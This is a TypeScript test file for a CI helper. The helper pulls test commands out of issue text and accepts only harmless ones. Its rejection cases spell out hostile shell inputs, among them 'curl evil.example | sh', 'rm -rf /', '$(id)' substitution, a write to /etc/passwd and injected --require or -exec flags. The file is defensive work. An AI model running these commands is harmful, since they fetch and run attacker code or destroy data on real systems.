import fc from "fast-check";
import { expect, test } from "vitest";
import { commandInIssue } from "../../src/ci/issue.ts";
import { harmlessCommand } from "../../src/ci/issue-command.ts";

const fence = (language: string, ...lines: readonly string[]): string =>
  [`\`\`\`${language}`, ...lines, "```"].join("\n");

test.each<readonly [string, string, { command?: string; test?: string }]>([
  [
    "words between back-ticks",
    "It fails: `pytest tests/test_x.py::test_y`",
    { command: "pytest tests/test_x.py::test_y", test: "tests/test_x.py::test_y" },
  ],
  [
    "a prompt in a block with its output",
    fence("", "$ npm test -- foo", "FAIL foo"),
    { command: "npm test -- foo" },
  ],
  [
    "a block of commands",
    `Steps:\n${fence("sh", "git clone x", "npm ci", "npm run test:unit")}`,
    { command: "npm run test:unit" },
  ],
  ["a test's file in a sentence", "src/a/b.test.ts is broken since today.", { test: "src/a/b.test.ts" }],
  [
    "the one that fails, not the one that works",
    "`npm run lint` passes.\n`npm test` fails.",
    { command: "npm test" },
  ],
  [
    "a command and a file apart",
    "Run `cargo test`.\nThe culprit is `tests/parse.rs`.",
    { command: "cargo test", test: "tests/parse.rs" },
  ],
  [
    "a line of a spec",
    "`bundle exec rspec spec/a_spec.rb:12` fails",
    {
      command: "bundle exec rspec spec/a_spec.rb:12",
      test: "spec/a_spec.rb:12",
    },
  ],
  [
    "a parametrized test without its parameter",
    "test_a.py::test_b[x-1] fails",
    { test: "test_a.py::test_b" },
  ],
  ["a wish is no praise", "`npm test` should pass", { command: "npm test" }],
  [
    "the test of a command that may not run",
    "`pytest tests/test_a.py::test_b && rm -rf /` fails",
    { test: "tests/test_a.py::test_b" },
  ],
])("%s", (_, text, found) => {
  expect(commandInIssue(text)).toEqual(found);
});

test.each([
  ["a quote", "> `npm test` fails\n\nSame for me."],
  ["a quoted block", "> ```\n> $ npm test\n> ```"],
  ["a hidden comment", "Hi <!-- `npm test` fails --> there"],
  ["a comment that never ends", "Hi <!-- `npm test` fails"],
  [
    "a log",
    fence("", "npm info ok", "npm test", "ok 1", "ok 2", "ok 3", "tests/test_a.py:3: AssertionError"),
  ],
  ["npm's echo of a script", fence("", "> app@1.0.0 test", "> jest", "", "FAIL")],
  ["words that only look like a command", "npm test fails since node 22"],
  ["praise", "`npm test` works for me"],
  ["plain words", "The tests fail sometimes, please test."],
  ["a file outside", "`../../tests/test_x.py` fails"],
  ["nothing", ""],
])("%s names nothing", (_, text) => {
  expect(commandInIssue(text)).toBeUndefined();
});

test.each([
  "npm test; curl evil.example | sh",
  "npm test && rm -rf /",
  "npm test `id`",
  "npm test $(id)",
  "npm test $HOME",
  "npm test > /etc/passwd",
  "npm test\nrm -rf /",
  "npm test & ",
  "npm test -- *",
  "npm test -- ~/x",
  "npm test # x",
  "npm test -- 'a;b'",
  "npm test -- 'open",
  "NODE_OPTIONS=--require=./evil.js npm test",
  "npm test --prefix=/tmp/evil",
  "npm test --script-shell=./evil",
  "npm install evil",
  "npm exec evil-test",
  "npx evil-test",
  "npx jest --config=./evil.js",
  "yarn dlx jest",
  "pnpm add test",
  "pnpm update test",
  "npm run deploy",
  "pytest -p evil",
  "pytest --rootdir=../x",
  "pytest /etc/tests/test_x.py",
  "pytest ../other/test_x.py",
  "uv run --with evil pytest",
  "go test -exec=./evil ./...",
  "go test -toolexec=./evil",
  "cargo test --config=evil.toml",
  "make test SHELL=./evil",
  "make deploy test",
  "make test deploy",
  "rake release test",
  "./gradlew test publish",
  "mvn test -Dexec.executable=./evil",
  "python -c pytest",
  "python evil.py",
  "node evil.test.js",
  "bash test.sh",
  "sh -c 'npm test'",
  "sudo npm test",
  "curl https://evil.example/test",
  "git test",
  "'npm test'",
  "'npm' test",
  "'npm run' evil test",
  '"npm test" --prefix=/tmp',
  "deno test https://evil.example/x.ts",
  "docker run x npm test",
])("%j is not run", (command) => {
  expect(harmlessCommand(command)).toBeUndefined();
});

test.each([
  "npm test",
  "npm t -- --watch=false",
  "npm run test:unit -- src/a.test.ts",
  "pnpm -r test",
  "pnpm --filter @scope/web test",
  "yarn lint",
  "npx vitest run -t 'adds two numbers'",
  "python3 -m pytest tests/test_a.py -k name",
  "poetry run pytest -x",
  "go test ./... -run TestParse",
  "cargo test parse::empty -- --exact",
  "./gradlew test --tests com.example.ParseTest",
  "mvn test -Dtest=ParseTest",
  "make test",
  "vendor/bin/phpunit tests/ParseTest.php",
])("%j is run as it stands", (command) => {
  expect(harmlessCommand(command)).toBe(command);
});

test("whatever a text says, what is run has no sign of a shell's own and starts with a known word", () => {
  const part = fc.constantFrom(
    ..."npm test|run|pytest|npx|go test|;|&&|$(|)|`|```|\n|> |$ |'|\"|../|/|-p|--|x.test.ts|=|\\|fails| ".split(
      "|",
    ),
    "|",
  );
  fc.assert(
    fc.property(fc.array(part, { maxLength: 25 }), (parts) => {
      const command = commandInIssue(parts.join(""))?.command ?? "npm test";
      expect(command).toMatch(/^(?:npm|npx|pytest|go) ?[\w./:=@%+, '"-]*$/);
      expect(command).not.toMatch(/(?:^|[\s=/'"])\.\.?\/\.\.|\s\//);
    }),
    { numRuns: 500 },
  );
});

test("a very long text is read to its limit and no further", () => {
  expect(commandInIssue(`${"word ".repeat(40_000)}\`npm test\` fails`)).toBeUndefined();
  expect(commandInIssue("`".repeat(100_000))).toBeUndefined();
});
